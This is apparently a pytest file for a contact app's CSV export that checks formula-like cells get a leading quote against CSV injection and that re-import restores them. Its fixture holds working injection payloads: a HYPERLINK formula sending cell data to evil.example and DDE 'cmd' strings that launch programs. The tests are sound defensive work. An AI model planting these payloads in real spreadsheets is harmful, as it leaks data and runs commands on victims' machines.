"""CSV export guards formula-like cells (OWASP CSV injection) and re-importing MentorDesk's own file undoes it."""

from __future__ import annotations

import csv

from mentordesk.exchange import csvfile, formulas, registry
from mentordesk.services import people

from .helpers import everyone

DANGEROUS = {
    "display_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "organization": "+cmd|' /C calc'!A0",
    "title": "-2+3",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "met_where": "=1+1",
    "met_how": "@A1",
}


def _export(tmp_path):
    path = tmp_path / "people.csv"
    registry.get("csv").export(path, None, {})
    return path


def _rows(path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_like_cells_are_exported_with_a_leading_quote(database, tmp_path):
    people.create_person(**DANGEROUS, phones=[{"phone": "+1 555 0100", "label": "mobile"}])
    row = _rows(_export(tmp_path))[0]
    assert row["Name"] == "'" + DANGEROUS["display_name"]
    assert row["Organization"] == "'" + DANGEROUS["organization"]
    assert row["Job Title"] == "'-2+3" and row["Notes"].startswith("'@SUM")
    assert row["Met Where"] == "'=1+1" and row["Met How"] == "'@A1"
    assert row["Phone"] == "'+1 555 0100"
    for value in row.values():
        assert not value.startswith(formulas.TRIGGERS), value


def test_harmless_cells_are_exported_unchanged(database, tmp_path):
    people.create_person(display_name="Ann O'Neil", organization="'quoted' Ltd", notes="a = b")
    row = _rows(_export(tmp_path))[0]
    assert row["Name"] == "Ann O'Neil" and row["Organization"] == "'quoted' Ltd" and row["Notes"] == "a = b"


def test_reimporting_our_own_export_gives_back_the_values(database, tmp_path):
    people.create_person(**DANGEROUS, phones=[{"phone": "+1 555 0100", "label": "mobile"}])
    before = everyone()
    path = _export(tmp_path)
    database.execute_sql("DELETE FROM person")
    registry.get("csv").import_(path, {"backup": False})
    after = everyone()
    assert after.keys() == before.keys()
    person = after[DANGEROUS["display_name"]]
    for field in ("organization", "title", "notes", "met_where", "met_how"):
        assert person[field] == DANGEROUS[field], field
    assert [p["phone"] for p in person["phones"]] == ["+1 555 0100"]


def test_other_apps_files_keep_their_quotes(tmp_path):
    path = tmp_path / "other.csv"
    path.write_text("Name,Notes\nBob,'=kept\n", encoding="utf-8")
    table = csvfile.unguard_export(csvfile.read_table(path))
    assert table.rows[0][1] == ["Bob", "'=kept"]


def test_tab_and_carriage_return_are_triggers_too():
    assert formulas.guard("\t=1+1") == "'\t=1+1" and formulas.guard("\r=1") == "'\r=1"


def test_unguard_takes_off_only_a_quote_guard_could_add():
    for value in ["=1", "+1", "-1", "@x", "\tx", "\rx", "plain", "'plain", "''=x", ""]:
        assert formulas.unguard(formulas.guard(value)) == value
    assert formulas.unguard("'hello") == "'hello"
